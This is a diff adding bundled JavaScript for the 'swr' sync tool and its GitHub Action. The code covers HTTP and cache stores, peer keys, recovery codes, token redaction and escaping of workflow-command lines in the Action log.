+    const h = { 'user-agent': 'swr-sync' };
+    if (ctx.authEnv) {
+        const v = ctx.env[ctx.authEnv];
+        if (v === undefined || v === '')
+            throw new UsageError(`--auth-env ${ctx.authEnv}: the variable is not set`);
+        if (/[\r\n]/.test(v))
+            throw new UsageError(`--auth-env ${ctx.authEnv}: the value holds a line break`);
+        h.authorization = v;
+    }
+    return h;
+}
+function transientStatus(status) {
+    return status === 429 || status === 408 || status >= 500;
+}
+const TRANSIENT_CODES = new Set([
+    'ECONNRESET',
+    'EPIPE',
+    'ETIMEDOUT',
+    'UND_ERR_SOCKET',
+    'UND_ERR_CONNECT_TIMEOUT',
+    'UND_ERR_HEADERS_TIMEOUT',
+    'UND_ERR_BODY_TIMEOUT'
+]);
+/** A fetch error: a timeout or a reset may pass; a refused connection or a bad URL will not. */
+function classify(err) {
+    const e = err;
+    const code = e.cause?.code;
+    if (e.name === 'TimeoutError' || e.name === 'AbortError')
+        return new Transient('no answer within the request time limit');
+    const msg = String(e.cause?.message ?? e.message).slice(0, 120);
+    if (code && TRANSIENT_CODES.has(code))
+        return new Transient(`the connection failed: ${msg}`);
+    return new Error(`cannot connect (${code ?? msg})`);
+}
+/** The body, at most `max` bytes, and exactly Content-Length bytes when the server sent one. */
+async function readBody(res, max) {
+    const declared = res.headers.get('content-length');
+    if (declared !== null && Number(declared) > max)
+        throw new Error(`${declared} bytes, over the ${max}-byte limit`);
+    const chunks = [];
+    let total = 0;
+    if (res.body) {
+        for await (const chunk of res.body) {
+            total += chunk.length;
+            if (total > max)
+                throw new Error(`more than the ${max}-byte limit`);
+            chunks.push(Buffer.from(chunk));
+        }
+    }
+    if (declared !== null && Number(declared) !== total)
+        throw new Transient(`the body was cut short (${total} of ${declared} bytes)`);
+    return Buffer.concat(chunks);
+}
+function http_store_httpStore(template, ctx) {
+    checkUrl(template.replace(PLACEHOLDER, 'x'), template.slice(0, 120));
+    const shown = template.slice(0, 200);
+    const fail = (why) => storeError(shown, why);
+    async function request(method, url, body) {
+        let res;
+        try {
+            res = await fetch(url, {
+                method,
+                ...(body ? { body } : {}),
+                headers: {
+                    ...headers(ctx),
+                    ...(body ? { 'content-type': 'application/octet-stream' } : {})
+                },
+                redirect: 'manual',
+                signal: AbortSignal.timeout(ctx.requestMs)
+            });
+        }
+        catch (err) {
+            if (err instanceof UsageError)
+                throw err;
+            throw classify(err);
+        }
+        if (transientStatus(res.status)) {
+            await res.body?.cancel().catch(() => undefined);
+            throw new Transient(`HTTP ${res.status}`, retryAfterSeconds(res.headers.get('retry-after')));
+        }
+        return res;
+    }
+    return {
+        spelling: shown,
+        async put(bytes, meta) {
+            const url = fillTemplate(template, meta);
+            await withRetries(`PUT ${url}`, ctx, async () => {
+                const res = await request('PUT', url, bytes);
+                await res.body?.cancel().catch(() => undefined);
+                if (res.status < 200 || res.status > 299)
+                    throw fail(`PUT answered HTTP ${res.status}`);
+            }).catch(err => {
+                throw err instanceof Transient ? fail(err.message) : err;
+            });
+            return url;
+        },
+        locate(name) {
+            if (template.includes('{sha256}'))
+                throw new UsageError(`${shown}: names each copy by its hash; pull it with the recovery code (--code)`);
+            return fillTemplate(template, { name, sha256: '' });
+        },
+        async get(locator) {
+            checkUrl(locator, shown);
+            return withRetries(`GET ${locator}`, ctx, async () => {
+                const res = await request('GET', locator);
+                if (res.status === 404) {
+                    await res.body?.cancel().catch(() => undefined);
+                    throw fail('no copy there (HTTP 404)');
+                }
+                if (res.status !== 200) {
+                    await res.body?.cancel().catch(() => undefined);
+                    throw fail(`GET answered HTTP ${res.status}`);
+                }
+                let bytes;
+                try {
+                    bytes = await readBody(res, MAX_BUNDLE_BYTES);
+                }
+                catch (err) {
+                    if (err instanceof Transient)
+                        throw err;
+                    if (err.name === 'TimeoutError' || err.name === 'AbortError')
+                        throw new Transient('the body did not arrive within the request time limit');
+                    if (/terminated|other side closed/i.test(err.message))
+                        throw new Transient('the body was cut short');
+                    throw fail(err.message);
+                }
+                const lm = Date.parse(res.headers.get('last-modified') ?? '');
+                return { bytes, storedAt: Number.isFinite(lm) ? new Date(lm) : undefined };
+            });
+        },
+        async stat(locator) {
+            try {
+                checkUrl(locator, shown);
+                const res = await withRetries(`HEAD ${locator}`, ctx, () => request('HEAD', locator));
+                await res.body?.cancel().catch(() => undefined);
+                if (res.status !== 200)
+                    return { reachable: false, detail: `HTTP ${res.status}` };
+                const lm = Date.parse(res.headers.get('last-modified') ?? '');
+                return { reachable: true, storedAt: Number.isFinite(lm) ? new Date(lm) : undefined };
+            }
+            catch (err) {
+                return { reachable: false, detail: err.message };
+            }
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/open.ts
+/** A store from its spelling (`--to`, `--from`) or from a locator (a recovery code, a record). */
+
+
+
+
+function openStore(spec, ctx) {
+    switch (storeKind(spec)) {
+        case 'git':
+            return gitStore(spec, ctx);
+        case 'http':
+            return httpStore(spec, ctx);
+        case 'actions':
+            if (!ctx.actions)
+                throw new UsageError('the Actions cache store is not available here');
+            return ctx.actions(ctx);
+        default:
+            throw new UsageError(`unknown store ${JSON.stringify(spec.slice(0, 120))}: use git:REMOTE, an http(s) URL template, or actions`);
+    }
+}
+/** The store that holds the copy at `locator`. */
+function storeOfLocator(locator, ctx) {
+    if (storeKind(locator) === 'git')
+        return gitStore(`git:${parseGitLocator(locator).remote}`, ctx);
+    return openStore(locator, ctx);
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/peers.ts
+/**
+ * Named peers: other machines' sync public keys (X-Wing), so `swr push --to-peer NAME` seals a copy
+ * that they can open. Kept in the private state directory (`sync/peers.json`); a key is added once
+ * under a name and never silently replaced. Fingerprints (the recipient id) are for checking a key
+ * out of band: a key taken on trust is encryption to whoever handed it over.
+ */
+
+
+
+
+
+
+
+const peers_FILE = 'peers.json';
+const MAX_PEERS = 256;
+function file(stateDir) {
+    return path.join(stateDir, 'sync', peers_FILE);
+}
+function loadPeers(stateDir) {
+    let text;
+    try {
+        const st = fs.lstatSync(file(stateDir));
+        if (!st.isFile() || st.size > 1 << 20)
+            throw new SwrError(`${file(stateDir)}: not a regular file under 1 MiB`, EXIT.UNREPAIRABLE);
+        text = fs.readFileSync(file(stateDir), 'utf8');
+    }
+    catch (err) {
+        if (errnoCode(err) === 'ENOENT')
+            return [];
+        throw err;
+    }
+    let doc;
+    try {
+        doc = JSON.parse(text);
+    }
+    catch {
+        throw new SwrError(`${file(stateDir)}: not JSON`, EXIT.UNREPAIRABLE);
+    }
+    return Object.entries(doc.peers ?? {}).map(([name, v]) => {
+        const key = typeof v === 'string' ? parsePublicKey(v) : undefined;
+        if (!key || !NAME_RE.test(name))
+            throw new SwrError(`${file(stateDir)}: peer "${name.slice(0, 64)}" is malformed`, EXIT.UNREPAIRABLE);
+        return { name, key, fingerprint: recipientId(key) };
+    });
+}
+function save(stateDir, peers) {
+    ensurePrivateDir(stateDir, 'sync');
+    const doc = {
+        format: 'swr-peers/1',
+        peers: Object.fromEntries(peers.map(p => [p.name, p.key.toString('base64')]))
+    };
+    writeFileAtomic(file(stateDir), JSON.stringify(doc, null, 2) + '\n', { mode: 0o600 });
+}
+/** Add a peer; the same key under the same name again is a no-op, anything else a refusal. */
+function addPeer(stateDir, name, keyText) {
+    if (!NAME_RE.test(name))
+        throw new UsageError(`bad peer name ${JSON.stringify(name.slice(0, 64))}: use letters, digits, ".", "_" or "-"`);
+    const key = parsePublicKey(keyText);
+    if (!key)
+        throw new UsageError('not a sync public key (base64 of 1216 bytes, as "swr peer mine" prints)');
+    const peers = loadPeers(stateDir);
+    const peer = { name, key, fingerprint: recipientId(key) };
+    const same = peers.find(p => p.name === name);
+    if (same) {
+        if (same.key.equals(key))
+            return { peer: same, added: false };
+        throw new UsageError(`peer "${name}" already has another key: remove it first`);
+    }
+    if (peers.length >= MAX_PEERS)
+        throw new UsageError(`at most ${MAX_PEERS} peers`);
+    save(stateDir, [...peers, peer]);
+    return { peer, added: true };
+}
+function removePeer(stateDir, name) {
+    const peers = loadPeers(stateDir);
+    const gone = peers.find(p => p.name === name);
+    if (!gone)
+        throw new UsageError(`no peer named "${name.slice(0, 64)}"`);
+    save(stateDir, peers.filter(p => p !== gone));
+    return gone;
+}
+function findPeer(stateDir, name) {
+    const p = loadPeers(stateDir).find(x => x.name === name);
+    if (!p)
+        throw new UsageError(`no peer named "${name.slice(0, 64)}" (add it with "swr peer add")`);
+    return p;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/recovery-code.ts
+/**
+ * The recovery code `swr push` prints: everything a fresh machine needs to find one stored copy and
+ * to know it is the one that was pushed, in one line a person can type:
+ *
+ *   swr1:PIN:WORD:LOCATOR
+ *
+ *   PIN      the first 125 bits of the SHA-256 of the stored bytes, 25 base32 letters in five
+ *            groups of five (abcde-fghij-…); a copy whose hash differs is refused
+ *   WORD     a checksum word over PIN and LOCATOR: most typing mistakes are caught before any
+ *            network access (one in 128 slips through, and is then refused by the PIN or the store)
+ *   LOCATOR  where the copy is (store.ts): git:REMOTE#NAME, an http(s) URL, or actions:KEY
+ *
+ * The code holds no secret: the bundle is sealed, and opening it needs the sync key.
+ */
+
+
+
+const CODE_PREFIX = 'swr1';
+const B32 = 'abcdefghijklmnopqrstuvwxyz234567';
+const PIN_CHARS = 25;
+/** Short, distinct, easy to say and to type. */
+const WORDS = ('acorn amber anchor apple arrow aspen badge bamboo banjo barley basil beacon berry birch ' +
+    'bison blossom bonfire breeze brick bridge brook cabin cactus camel candle canyon carbon cargo ' +
+    'cedar cello chalk cherry cider cinder citrus clover cobalt comet copper coral cotton crane ' +
+    'crater cricket dahlia delta denim desert dolphin dune eagle ember falcon fern fiddle fjord ' +
+    'flint forest fossil garnet geyser ginger glacier granite gravel harbor hazel heron hickory ' +
+    'honey island ivory jasper juniper kayak kettle lagoon lantern lemon lilac linen lotus magnet ' +
+    'maple marble meadow mesa mint moss nectar nickel nutmeg oasis olive onyx orbit orchid otter ' +
+    'oyster paddle pebble pepper pine planet plum prairie quartz quill radish raven reef ribbon ' +
+    'river rocket saddle salmon sandal sierra silver spruce summit tundra tulip velvet violet ' +
+    'walnut willow zephyr').split(' ');
+function pinOf(sha256Hex) {
+    const bytes = Buffer.from(sha256Hex, 'hex');
+    let bits = '';
+    for (const b of bytes.subarray(0, 16))
+        bits += b.toString(2).padStart(8, '0');
+    let out = '';
+    for (let i = 0; i < PIN_CHARS; i++)
+        out += B32[parseInt(bits.slice(i * 5, i * 5 + 5), 2)];
+    return out;
+}
+function checkWord(pin, locator) {
+    const h = createHash('sha256').update(`swr-code\0${pin}\0${locator}`).digest();
+    return WORDS[(h[0] ?? 0) & 127];
+}
+function grouped(pin) {
+    return pin.match(/.{1,5}/g)?.join('-') ?? pin;
+}
+function makeCode(locator, sha256Hex) {
+    const pin = pinOf(sha256Hex);
+    return `${CODE_PREFIX}:${grouped(pin)}:${checkWord(pin, locator)}:${locator}`;
+}
+/** Parse a typed code; every mistake is a one-line usage error. */
+function parseCode(text) {
+    const code = text.trim();
+    const parts = /^([^:]*):([^:]*):([^:]*):(.+)$/s.exec(code);
+    if (!parts || parts[1]?.toLowerCase() !== CODE_PREFIX)
+        throw new UsageError(`not a recovery code (it starts with "${CODE_PREFIX}:")`);
+    const pin = (parts[2] ?? '').toLowerCase().replace(/[-\s]/g, '');
+    if (pin.length !== PIN_CHARS || [...pin].some(c => !B32.includes(c)))
+        throw new UsageError(`recovery code: the pin has ${PIN_CHARS} letters a-z and digits 2-7`);
+    const locator = parts[4] ?? '';
+    if (/\p{Cc}/u.test(locator) || locator.length > 2000 || !storeKind(locator))
+        throw new UsageError('recovery code: the locator is not a git:, http(s): or actions: one');
+    const word = (parts[3] ?? '').toLowerCase();
+    if (word !== checkWord(pin, locator))
+        throw new UsageError('recovery code: the checksum word does not match (a typo in the pin, the word or the locator)');
+    return { pin, locator };
+}
+/** Whether bytes with this SHA-256 are the copy the code names. */
+function pinMatches(code, sha256Hex) {
+    return pinOf(sha256Hex) === code.pin;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/redact.ts
+/**
+ * A copy published in clear has its known token shapes (GitHub, GitLab, npm, OpenAI, Hugging Face,
+ * Slack, AWS, Google, JWTs, PEM private keys, URL passwords: run/scrub.ts) replaced by `${VAR}`
+ * references before it leaves the machine; `pull --expand` fills them back from the environment.
+ *
+ * Each distinct value gets its own variable (GITHUB_TOKEN, then GITHUB_TOKEN_2, …), never one whose
+ * `${NAME}` already appears in the text, so expansion touches exactly what redaction replaced. The
+ * values are replaced as they appear in the manifest's JSON text, and filled back JSON-escaped:
+ * the expanded text is byte for byte the signed one, so its signatures hold again (and a wrong or
+ * missing value is refused by the signature gate, never written).
+ */
+
+
+function preview(value) {
+    return value.length <= 12 ? '…' : `${value.slice(0, 4)}…${value.slice(-4)}`;
+}
+function redact(text) {
+    const byValue = new Map();
+    const used = new Set();
+    const previews = {};
+    const nameFor = (base, value) => {
+        const known = byValue.get(value);
+        if (known)
+            return known;
+        let name = base;
+        for (let n = 2; used.has(name) || text.includes(`\${${name}}`); n++)
+            name = `${base}_${n}`;
+        used.add(name);
+        byValue.set(value, name);
+        previews[name] = preview(value);
+        return name;
+    };
+    let out = text;
+    for (const { re, variable } of NAMED_TOKEN_SHAPES)
+        out = out.replace(re, (m) => `\${${nameFor(variable, m)}}`);
+    return { text: out, variables: [...used], previews };
+}
+/** `text` with each `${VAR}` of `variables` filled from `env` (JSON-escaped); unset ones refused. */
+function redact_expand(text, variables, env) {
+    const missing = variables.filter(v => env[v] === undefined || env[v] === '');
+    if (missing.length > 0)
+        throw new UsageError(`pull --expand: ${missing.join(', ')} ${missing.length === 1 ? 'is' : 'are'} not set (the copy was redacted; set ${missing.length === 1 ? 'it' : 'them'} to the original values)`);
+    let out = text;
+    for (const v of variables)
+        out = out.split(`\${${v}}`).join(JSON.stringify(env[v]).slice(1, -1));
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/replicas.ts
+/**
+ * What this machine pushed, and where: one record per manifest in the private state directory
+ * (`sync/replicas.json`), read by `swr sync status` to check each copy's reachability, hash and
+ * age. The record is a convenience, not a trust anchor: a pull checks the pin it is given.
+ */
+
+
+
+
+
+const MAX_MANIFESTS = 200;
+function replicas_file(stateDir) {
+    return path.join(stateDir, 'sync', 'replicas.json');
+}
+function load(stateDir) {
+    try {
+        const st = fs.lstatSync(replicas_file(stateDir));
+        if (!st.isFile() || st.size > 4 << 20)
+            return {};
+        const doc = JSON.parse(fs.readFileSync(replicas_file(stateDir), 'utf8'));
+        return doc.manifests && typeof doc.manifests === 'object' ? doc.manifests : {};
+    }
+    catch (err) {
+        // A missing or damaged record is an empty one: it only lists what to check.
+        if (errnoCode(err) === 'ENOENT' || err instanceof SyntaxError)
+            return {};
+        throw err;
+    }
+}
+function replicasOf(stateDir, manifest) {
+    const list = load(stateDir)[manifest];
+    return Array.isArray(list) ? list.filter(r => r && typeof r.locator === 'string') : [];
+}
+/** Replace the record of `manifest` with `replicas` (the newest push). */
+function recordReplicas(stateDir, manifest, replicas) {
+    const all = load(stateDir);
+    delete all[manifest];
+    const kept = Object.entries(all).slice(-(MAX_MANIFESTS - 1));
+    ensurePrivateDir(stateDir, 'sync');
+    const doc = {
+        format: 'swr-replicas/1',
+        manifests: Object.fromEntries([...kept, [manifest, replicas]])
+    };
+    writeFileAtomic(replicas_file(stateDir), JSON.stringify(doc, null, 2) + '\n', { mode: 0o600 });
+}
+
+;// CONCATENATED MODULE: ./src/core/index.ts
+/**
+ * The swr engine, shared by the CLI and the GitHub Action:
+ *
+ *   load (strict parse, schema, rules, digest)
+ *     -> verify (one verifier per kind; one hash pool; incremental cache)
+ *     -> diagnose (wipe signature, cause and fix per entry)
+ *     -> report (JSON, text)
+ *
+ * It prints nothing, exits nowhere and reads no environment: the shells decide all of that.
+ */
+// The use cases, each returning a finished result, and what a result means (status, exit code).
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+// What the shells use besides the engine calls above: renderers, stores, keys, helpers.
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/version.ts
+/** The swr version; a test keeps it equal to package.json's. */
+const VERSION = '0.1.0';
+
+;// CONCATENATED MODULE: ./src/action/log.ts
+/**
+ * The only way the Action writes to its log. The runner reads every stdout line as a possible
+ * workflow command (`::warning::`, `::add-mask::`, `::stop-commands::`, `::save-state`), so a line
+ * swr prints must never be one that someone else authored: every message is passed through
+ * `escapeText` (no CR, LF or other control survives), a line can never start with `::`, and
+ * recipe output is printed only inside a `::stop-commands::` window with a random token. The lint
+ * configuration forbids `core.info` and friends, `console` and `process.stdout` elsewhere in
+ * src/action, so a raw print cannot come back unnoticed.
+ */
+
+
+
+
+/** Longest single log line swr prints; a hostile 10 MB name must not become a 10 MB line. */
+const LINE_MAX = 4096;
+/** One log line: escaped, bounded, and never read by the runner as a command. */
+function safeLine(text) {
+    const line = escape_escapeText(text, { max: LINE_MAX });
+    // The runner trims leading whitespace before looking for `::`.
+    return /^\s*::/.test(line) ? line.replace('::', '\\x3a:') : line;
+}
+/**
+ * A command's message: each of swr's own lines escaped; the runner gets them as one command.
+ * `%` is left to @actions/core, which percent-encodes command data and properties itself
+ * (encoding it here too would show `%25` where the name has `%`).
+ */
+function message(text) {
+    return text
+        .split('\n')
+        .map(l => safeLine(l))
+        .join('\n');
+}
+function props(p) {
+    if (!p)
+        return undefined;
+    return {
+        ...(p.title !== undefined ? { title: safeLine(p.title) } : {}),
+        ...(p.file !== undefined ? { file: safeLine(p.file) } : {}),
+        ...(p.startLine !== undefined ? { startLine: p.startLine } : {})
+    };
+}
+/** One line: a newline in `text` is shown as `\n`, never printed. */
+function info(text) {
+    core/* info */.pq(safeLine(text));
+}
+/** Text from a report renderer (which escapes every untrusted string): one log line per line. */
+function rendered(text) {
+    for (const l of text.replace(/\n$/, '').split('\n'))
+        core/* info */.pq(safeLine(l));
+}
+function warning(text, p) {
+    core/* warning */.$e(message(text), props(p));
+}
+function error(text, p) {
+    core/* error */.z3(message(text), props(p));
+}
+function notice(text, p) {
+    core/* notice */.lm(message(text), props(p));
+}
+/** Shown only when the run has step debugging on (a stack for a bug report). */
+function debug(text) {
+    core/* debug */.Yz(message(text));
+}
+function setFailed(text) {
+    core/* setFailed */.C1(message(text));
+}
+function startGroup(name) {
+    core/* startGroup */.Oh(safeLine(name));
+}
+function endGroup() {
+    core/* endGroup */.N4();
+}
+/** Append Markdown built by the report renderers (which escape every untrusted string). */
+async function writeSummary(markdown) {
+    await core/* summary */.z.addRaw(markdown, true).write();
+}
+/**
+ * Recipe output must not act as workflow commands: it is printed inside a stop-commands window
+ * with a random token, opened before the first recipe line and closed before swr prints anything
+ * of its own (groups, errors, warnings), so swr's own commands still work.
+ */
+function makeShield() {
+    let token;
+    return {
+        recipeLine(line) {
+            if (!token) {
+                token = (0,external_node_crypto_.randomBytes)(16).toString('hex');
+                process.stdout.write(`::stop-commands::${token}${(external_node_os_default()).EOL}`);
+            }
+            // A lone CR is a line break to some readers: keep each recipe line one line.
+            process.stdout.write(line.replace(/\r/g, '\\r') + (external_node_os_default()).EOL);
+        },
+        own() {
+            if (token)
+                process.stdout.write(`::${token}::${(external_node_os_default()).EOL}`);
+            token = undefined;
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/action/constants.ts
+/** Every input, output and saved-state name of the Action, in one place. */
+const Inputs = {
+    Command: 'command',
+    Manifest: 'manifest',
+    Workspace: 'workspace',
+    Only: 'only',
+    Deep: 'deep',
+    Jobs: 'jobs',
+    Timeout: 'timeout',
+    HmacKey: 'hmac-key',
+    TrustedSigners: 'trusted-signers',
+    Require: 'require',
+    MinVersion: 'min-version',
+    ApproveDigest: 'approve-digest',
+    FailOn: 'fail-on',
+    Annotations: 'annotations',
+    Summary: 'summary',
+    Sarif: 'sarif',
+    CacheLookup: 'cache-lookup',
+    CanaryAt: 'canary-at',
+    CanaryVolatile: 'canary-volatile',
+    CanaryLargeBytes: 'canary-large-bytes',
+    CanaryHome: 'canary-home',
+    CanaryKey: 'canary-key',
+    Record: 'record'
+};
+/** Names of the state the main step hands to the post step. */
+const State = {
+    WriteBack: 'swr-write-back'
+};
+const Outputs = {
+    Status: 'status',
+    Healthy: 'healthy',
+    Damaged: 'damaged',
+    Repaired: 'repaired',
+    WipeSignature: 'wipe-signature',
+    Report: 'report',
+    ReportPath: 'report-path',
+    ManifestDigest: 'manifest-digest',
+    ExitCode: 'exit-code',
+    Stats: 'stats',
+    Canary: 'canary'
+};
+const COMMANDS = [
+    'check',
+    'doctor',
+    'restore',
+    'verify',
+    'canary-plant',
+    'canary-read',
+    'stats'
+];
+const SURVIVAL_COMMANDS = ['canary-plant', 'canary-read', 'stats'];
+const FAIL_ON = ['damage', 'unrepairable', 'never'];
+
+;// CONCATENATED MODULE: ./src/adapters/cache-service.ts
+
+
+
+const SERVICE = 'github.actions.results.api.v1.CacheService';
+const VERSION_SALT = '1.0';
+/** The client's names for the compressions it writes (zstd is always without --long now). */
+const METHODS = [
+    ['zstd-without-long', 'zstd'],
+    ['gzip', 'gzip']
+];
+/** The cache version @actions/cache computes for `paths` saved with `method` (not on Windows). */
+function cacheVersion(paths, method) {
+    return (0,external_node_crypto_.createHash)('sha256')
+        .update([...paths, method, VERSION_SALT].join('|'))
+        .digest('hex');
+}
+/** How the archive names `abs`: relative to the job's workspace (the client's tar -C), POSIX. */
+function archivePrefix(abs, env) {
+    const ws = env.GITHUB_WORKSPACE || process.cwd();
+    return external_node_path_default().relative(ws, external_node_path_default().resolve(abs)).split((external_node_path_default()).sep).join('/') || '.';
+}
+/** The path spellings whose versions are asked for: absolute, then workspace-relative. */
+function pathForms(abs, env) {
+    const forms = [external_node_path_default().resolve(abs), archivePrefix(abs, env)];
+    return [...new Set(forms)];
+}
+function isGhes(env) {
+    const host = new URL(env.GITHUB_SERVER_URL || 'https://github.com').hostname.toUpperCase();
+    return !(host === 'GITHUB.COM' || host.endsWith('.GHE.COM') || host.endsWith('.LOCALHOST'));
+}
+/** Loaded on first use: most CLI commands never talk to the cache, and the client is large. */
+let httpModule;
+async function newHttpClient(...args) {
+    httpModule ??= Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 4942));
+    return new (await httpModule).HttpClient(...args);
+}
+class CacheService {
+    env;
+    httpClient;
+    http() {
+        this.httpClient ??= newHttpClient('swr', [], { allowRetries: true, maxRetries: 2 });
+        return this.httpClient;
+    }
+    constructor(env) {
+        this.env = env;
+    }
+    get v2() {
+        return !isGhes(this.env) && Boolean(this.env.ACTIONS_CACHE_SERVICE_V2);
+    }
+    auth() {
+        return { Authorization: `Bearer ${this.env.ACTIONS_RUNTIME_TOKEN ?? ''}` };
+    }
+    /** One lookup of `keys` under one version; undefined on a miss. Throws when unreachable. */
+    async ask(key, restoreKeys, version) {
+        if (this.v2) {
+            const base = this.env.ACTIONS_RESULTS_URL ?? '';
+            const url = new URL(`/twirp/${SERVICE}/GetCacheEntryDownloadURL`, base).href;
+            const res = await (await this.http()).post(url, JSON.stringify({ key, restore_keys: restoreKeys, version }), {
+                ...this.auth(),
+                'Content-Type': 'application/json',
+                Accept: 'application/json'
+            });
+            const body = await res.readBody();
+            if (res.message.statusCode !== 200)
+                throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
+            const r = JSON.parse(body);
+            return r.ok && r.signed_download_url && r.matched_key
+                ? { matchedKey: r.matched_key, url: r.signed_download_url }
+                : undefined;
+        }
+        const base = this.env.ACTIONS_CACHE_URL || this.env.ACTIONS_RESULTS_URL || '';
+        const q = `keys=${encodeURIComponent([key, ...restoreKeys].join(','))}&version=${version}`;
+        const res = await (await this.http()).get(new URL(`_apis/artifactcache/cache?${q}`, base).href, {
+            ...this.auth(),
+            Accept: 'application/json;api-version=6.0-preview.1'
+        });
+        const body = await res.readBody();
+        if (res.message.statusCode === 204)
+            return undefined;
+        if (res.message.statusCode !== 200)
+            throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
+        const r = JSON.parse(body);
+        return r.cacheKey && r.archiveLocation
+            ? { matchedKey: r.cacheKey, url: r.archiveLocation }
+            : undefined;
+    }
+    /** The newest archive for `key` (or a restore-keys prefix) under any spelling of `abs`. */
+    async find(abs, key, restoreKeys) {
+        const prefix = archivePrefix(abs, this.env);
+        for (const [method, compression] of METHODS) {
+            for (const form of pathForms(abs, this.env)) {
+                const found = await this.ask(key, restoreKeys, cacheVersion([form], method));
+                if (!found)
+                    continue;
+                return {
+                    matchedKey: found.matchedKey,
+                    exact: found.matchedKey === key,
+                    compression,
+                    prefix,
+                    open: () => this.download(found.url)
+                };
+            }
+        }
+        return undefined;
+    }
+    async download(url) {
+        // A signed URL: no token sent to storage, and the URL itself never printed.
+        const res = await (await newHttpClient('swr')).get(url);
+        const status = res.message.statusCode ?? 0;
+        if (status !== 200) {
+            res.message.resume();
+            throw new Error(`the archive download answered ${status}`);
+        }
+        return res.message;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/adapters/actions-cache.ts
+/**
+ * The real Actions cache behind the engine's CacheClient port, for the Action and for the CLI on a
+ * runner. Restores never go through @actions/cache's restoreCache (it extracts with `tar -P` into
+ * the workspace): cache-service.ts finds and streams the archive and the engine unpacks it. The
+ * client is loaded only to save and to look up, with a private temp directory when RUNNER_TEMP is
+ * unset and its workflow commands kept off a terminal.
+ */
+
+
+
+
+
+/** The cache service is reachable from this process (v2 results service, or the v1 cache URL). */
+function cacheServiceAvailable(env) {
+    return Boolean(env.ACTIONS_RUNTIME_TOKEN && (env.ACTIONS_RESULTS_URL || env.ACTIONS_CACHE_URL));
+}
+/** Saves are off in read-only cache mode (ACTIONS_CACHE_MODE=read, or none). */
+function cacheReadOnly(env) {
+    return env.ACTIONS_CACHE_MODE === 'read' || env.ACTIONS_CACHE_MODE === 'none';
+}
+/** The same client, calling `before` ahead of every request (the Action closes its log shield). */
+function withBefore(client, before) {
+    return {
+        find: (abs, key, restoreKeys) => (before(), client.find(abs, key, restoreKeys)),
+        lookup: (abs, key) => (before(), client.lookup(abs, key)),
+        save: (abs, key) => (before(), client.save(abs, key))
+    };
+}
+/** A workflow command's message as written (%25, %0D, %0A decoded), on one line. */
+function unescapeCommand(msg) {
+    return msg
+        .replace(/%0D|%0A/gi, ' ')
+        .replace(/%25/g, '%')
+        .trim();
+}
+let actions_cache_loaded;
+async function client() {
+    actions_cache_loaded ??= await __nccwpck_require__.e(/* import() */ 641).then(__nccwpck_require__.bind(__nccwpck_require__, 2641));
+    return actions_cache_loaded;
+}
+function actionsCacheClient(opts) {
+    // Absolute paths: the client resolves relative ones against the process's cwd but archives them
+    // relative to GITHUB_WORKSPACE, and the cache version hashes the path strings as given.
+    const spell = (abs) => external_node_path_default().resolve(abs);
+    const onRunner = opts.env.GITHUB_ACTIONS === 'true';
+    const quietly = async (fn) => {
+        // The client reads RUNNER_TEMP from process.env and falls back to /home/actions/temp.
+        const temp = process.env.RUNNER_TEMP
+            ? undefined
+            : external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-cache-'));
+        if (temp)
+            process.env.RUNNER_TEMP = temp;
+        try {
+            return await muted(fn);
+        }
+        finally {
+            if (temp) {
+                delete process.env.RUNNER_TEMP;
+                external_node_fs_default().rmSync(temp, { recursive: true, force: true });
+            }
+        }
+    };
+    const muted = async (fn) => {
+        if (!opts.logToStderr)
+            return fn();
+        const write = process.stdout.write.bind(process.stdout);
+        const stderrWrite = process.stderr.write.bind(process.stderr);
+        // The client's debug lines only matter when the runner asks for them (RUNNER_DEBUG=1).
+        const debug = opts.env.RUNNER_DEBUG === '1';
+        process.stdout.write = ((chunk) => {
+            const text = typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
+            if (!onRunner) {
+                // A terminal gets swr's own line for what the client warns about, no workflow commands.
+                for (const m of text.matchAll(/^::(?:warning|error)[^:]*::(.*)$/gm))
+                    opts.onNote?.(`cache: ${unescapeCommand(m[1] ?? '')}`);
+                return true;
+            }
+            const kept = debug
+                ? text
+                : text
+                    .split(/(?<=\n)/)
+                    .filter(l => !l.startsWith('::debug::'))
+                    .join('');
+            return kept ? stderrWrite(kept) : true;
+        });
+        try {
+            return await fn();
+        }
+        finally {
+            process.stdout.write = write;
+        }
+    };
+    const service = new CacheService(opts.env);
+    const note = (what, err) => opts.onNote?.(`cache ${what}: ${err instanceof Error ? err.message : String(err)}`);
+    return {
+        async find(abs, key, restoreKeys) {
+            try {
+                return await service.find(abs, key, restoreKeys);
+            }
+            catch (err) {
+                note(`restore of ${key} failed`, err);
+                return undefined;
+            }
+        },
+        async lookup(abs, key) {
+            try {
+                const cache = await client();
+                return ((await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }))) ===
+                    key);
+            }
+            catch (err) {
+                note(`lookup of ${key} failed`, err);
+                return false;
+            }
+        },
+        async save(abs, key) {
+            try {
+                const cache = await client();
+                // The client reports "already exists" and "unreachable" alike (-1): ask first.
+                const existing = await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }));
+                if (existing === key)
+                    return 'exists';
+                const id = await quietly(() => cache.saveCache([spell(abs)], key));
+                return id === -1 ? 'failed' : 'saved';
+            }
+            catch (err) {
+                const name = err instanceof Error ? err.name : '';
+                if (name === 'ReserveCacheError' || /already exists/i.test(String(err)))
+                    return 'exists';
+                note(`save of ${key} failed`, err);
+                return 'failed';
+            }
+        }
+    };
+}
+
